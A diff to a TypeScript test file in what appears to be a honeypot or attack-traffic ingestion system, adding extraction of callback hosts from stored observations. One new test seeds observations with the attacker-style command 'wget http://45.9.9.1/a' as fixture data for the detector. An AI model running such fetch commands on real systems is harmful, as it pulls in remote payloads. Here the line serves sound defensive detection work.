@@ -3,11 +3,13 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { type ReapplyCommandOptions, runTagsReapply } from "@noisefloor/cli/commands/tags/reapply.ts";
 import { readStaleRollups } from "@noisefloor/clickhouse/rollups/stale-marker.ts";
+import { type CallbackSource, findCallbacks } from "@noisefloor/domain/callbacks/find-callbacks.ts";
 import { tagIdFromSlug } from "@noisefloor/domain/tags/tag.ts";
 import { explainRejection } from "@noisefloor/ingest/formats/explain-rejection.ts";
 import { ingestBatch } from "@noisefloor/ingest/pipeline/pipeline.ts";
 import type { RulesInUse } from "@noisefloor/ingest/reapply/decide.ts";
 import { type ReapplyOptions, reapplyRules } from "@noisefloor/ingest/reapply/reapply.ts";
+import type { RowOptions } from "@noisefloor/ingest/rows/make-rows.ts";
 import type { RequestRecord } from "@noisefloor/ingest/sources/http/records.ts";
 import { observationSink } from "@noisefloor/ingest/store/observation-sink.ts";
 import { assignTags } from "@noisefloor/ingest/tagging/assign-tags.ts";
@@ -54,7 +56,12 @@ const BEFORE = { a: { path: ["/1", "/2"] }, b: { "path|contains": "3" }, c: { me
 const AFTER = { a: { path: "/2" }, b: { "path|startswith": "/3" }, d: { path: ["/1", "/5"] } };
 
 /** Stores as the intake does, with the tags of these rules. */
-async function storeIn(to: World, { tagger }: RulesInUse, observations: readonly Record<string, unknown>[]) {
+async function storeIn(
+  to: World,
+  { tagger }: RulesInUse,
+  observations: readonly Record<string, unknown>[],
+  more: Pick<RowOptions, "findCallbacks"> = {},
+) {
   const records = observations.map(
     (one, index): RequestRecord => ({
       bytes: Buffer.from(JSON.stringify(one)),
@@ -66,6 +73,7 @@ async function storeIn(to: World, { tagger }: RulesInUse, observations: readonly
     }),
   );
   const rows = {
+    ...more,
     assignTags: (one: Parameters<typeof assignTags>[0], ids: readonly string[]) =>
       assignTags(one, ids, to.catalogue, tagger),
   };
@@ -100,7 +108,7 @@ function randomObservations(random: Random, count: number) {
 const rowsSchema = z.array(z.record(z.string(), z.unknown()));
 const QUERIES = {
   observations: `SELECT source_ip, observation_id, toString(observed_at) AS at, arraySort(tags) AS tags,
-    arraySort(rule_tags) AS rule_tags, arraySort(shared_tags) AS shared_tags FROM observations FINAL ORDER BY ALL`,
+    arraySort(rule_tags) AS rule_tags, arraySort(shared_tags) AS shared_tags, callbacks FROM observations FINAL ORDER BY ALL`,
   tag_activity_hourly: `SELECT tag_id, dataset, workspace_id, hour, uniqExactMerge(addresses) AS addresses
     FROM tag_activity_hourly GROUP BY ALL ORDER BY ALL`,
   tag_addresses: `SELECT tag_id, dataset, workspace_id, start, source_ip, groupBitOr(hours) AS hours
@@ -109,6 +117,8 @@ const QUERIES = {
     FROM address_tags GROUP BY ALL ORDER BY ALL`,
   address_facets: `SELECT source_ip, dataset, workspace_id, field, value, toString(max(last_seen)) AS latest
     FROM address_facets GROUP BY ALL ORDER BY ALL`,
+  callbacks: `SELECT host, source_ip, hour, port, scheme, path, text, toString(min(first_seen)) AS first
+    FROM callbacks GROUP BY ALL ORDER BY ALL`,
 };
 
 async function contentOf({ client }: World) {
@@ -157,6 +167,17 @@ test("rules that only give more tags leave the rollups where they are", async ()
   await storeIn(expected, rulesOf({ ...BEFORE, ...{ d: { path: "/6" } } }), stored);
   expect(await reapply({ ...BEFORE, d: { path: "/6" } })).toMatchObject({ rollups: "current", isComplete: true });
   await expectSame();
+});
+
+test("observations that were stored without callbacks get those that they name", async () => {
+  const naming = { commands: ["wget http://45.9.9.1/a"], payload_sha256: ["ab".repeat(32)] };
+  const stored = randomObservations(seeded(8), 40).map((one, index) => ({ ...one, ...(index % 4 === 0 && naming) }));
+  await storeIn(world, rulesOf(BEFORE), stored, { findCallbacks: () => [] });
+  await storeIn(expected, rulesOf(BEFORE), stored);
+  const rules = { ...rulesOf(BEFORE), findCallbacks: (source: CallbackSource) => findCallbacks(source, () => false) };
+  expect(await reapply(BEFORE, { rules })).toMatchObject({ callbacks: 10, tags: new Map(), rollups: "current" });
+  await expectSame();
+  expect(await reapply(BEFORE, { rules }), "nothing is left to do").toMatchObject({ changed: 0, callbacks: 0 });
 });
 
 test("what the intake stores meanwhile is counted exactly", async () => {
